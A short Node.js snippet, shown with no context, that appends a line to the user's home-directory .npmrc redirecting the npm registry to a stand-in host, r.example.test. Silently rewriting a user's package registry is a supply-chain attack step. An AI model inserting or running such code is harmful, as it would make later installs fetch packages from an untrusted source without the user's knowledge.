const fs = require("fs");
const os = require("os");
const path = require("path");

const settings = path.join(os.homedir(), ".npmrc");
fs.appendFileSync(settings, "\nregistry=https://r.example.test/\n");
